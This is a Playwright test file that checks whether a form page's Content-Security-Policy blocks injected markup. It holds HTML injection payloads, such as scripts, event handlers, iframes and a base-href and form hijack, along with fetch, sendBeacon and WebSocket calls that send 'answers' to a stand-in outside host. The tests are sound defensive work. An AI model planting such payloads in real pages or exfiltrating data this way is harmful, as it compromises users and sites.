"""Whatever gets into a page stays without effect: no script but ours runs, nothing is asked for."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.support.sheet_in_browser import pages

pytestmark = pytest.mark.browser
OUTSIDE = "https://outside.example"
INJECTED = {
    "script": "<script>window.broken = 1</script>",
    "script from outside": f"<script src='{OUTSIDE}/x.js'></script>",
    "handler": "<img src='data:,' onerror='window.broken = 1'>",
    "picture": f"<img src='{OUTSIDE}/x.png'>",
    "style": "<style>form { display: none }</style>",
    "style from outside": f"<link rel='stylesheet' href='{OUTSIDE}/x.css'>",
    "frame": f"<iframe src='{OUTSIDE}/'></iframe>",
    "frame with script": "<iframe srcdoc='<script>parent.broken = 1</script>'></iframe>",
    "address of all links": f"<base href='{OUTSIDE}/'>",
    "form": f"<form id='out' action='{OUTSIDE}/' method='post'></form>",
    "file to come": f"<link rel='prefetch' href='{OUTSIDE}/x'>",
}
_POLICY = re.compile('<meta http-equiv="Content-Security-Policy"[^>]*>')


class Visit:
    """A page in a window, with the addresses outside that it asked for."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        page.context.route(f"{OUTSIDE}/**", self._answer)

    def _answer(self, route: object) -> None:
        self.asked.append(route.request.url)  # type: ignore[attr-defined]
        route.fulfill(body="window.broken = 1")  # type: ignore[attr-defined]

    def is_broken(self) -> bool:
        """Whether anything from outside had an effect."""
        self.page.evaluate("document.getElementById('out')?.submit()")
        self.page.wait_for_timeout(300)
        is_elsewhere = not self.page.url.startswith("file:")
        return bool(
            self.asked
            or is_elsewhere
            or self.page.evaluate(
                "'broken' in window || !document.baseURI.startsWith('file:')"
                " || getComputedStyle(document.forms[0]).display === 'none'"
            )
        )


@pytest.fixture
def visit(chromium: Browser) -> Iterator[Visit]:
    context = chromium.new_context()
    yield Visit(context.new_page())
    context.close()


@pytest.fixture(scope="module")
def blank(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("blank")
    return pages(folder, "wexholme", "pushback", {})["request"].read_text("utf-8")


@pytest.fixture
def visit_blank(blank: str, tmp_path: Path, visit: Visit) -> Visit:
    path = tmp_path / "page.html"
    path.write_text(blank, "utf-8")
    visit.page.goto(path.as_uri())
    return visit


@pytest.mark.parametrize("kind", INJECTED)
def test_markup_that_somebody_put_into_a_file_has_no_effect(
    kind: str, blank: str, tmp_path: Path, visit: Visit
) -> None:
    path = tmp_path / "page.html"
    path.write_text(blank.replace("</form>", f"</form>{INJECTED[kind]}", 1), "utf-8")
    visit.page.goto(path.as_uri())
    assert not visit.is_broken()


@pytest.mark.parametrize("kind", INJECTED)
def test_the_same_markup_has_an_effect_on_a_page_without_the_policy(
    kind: str, blank: str, tmp_path: Path, visit: Visit
) -> None:
    path = tmp_path / "page.html"
    page = _POLICY.sub("", blank).replace("</form>", f"</form>{INJECTED[kind]}", 1)
    path.write_text(page, "utf-8")
    visit.page.goto(path.as_uri())
    assert visit.is_broken()


@pytest.mark.parametrize("kind", INJECTED)
def test_markup_that_comes_in_later_has_no_effect(kind: str, visit_blank: Visit) -> None:
    visit_blank.page.evaluate(
        "html => document.body.append(document.createRange().createContextualFragment(html))",
        INJECTED[kind],
    )
    assert not visit_blank.is_broken()


@pytest.mark.parametrize(
    "call",
    [
        f"fetch('{OUTSIDE}/x')",
        f"navigator.sendBeacon('{OUTSIDE}/x', 'answers')",
        f"new WebSocket('{OUTSIDE.replace('https', 'wss')}/x')",
        f"Object.assign(new Image(), {{src: '{OUTSIDE}/x.png'}})",
    ],
)
def test_no_script_can_send_the_answers_anywhere(call: str, visit_blank: Visit) -> None:
    visit_blank.page.evaluate(f"async () => {{ try {{ await {call} }} catch {{}} }}")
    assert not visit_blank.is_broken()
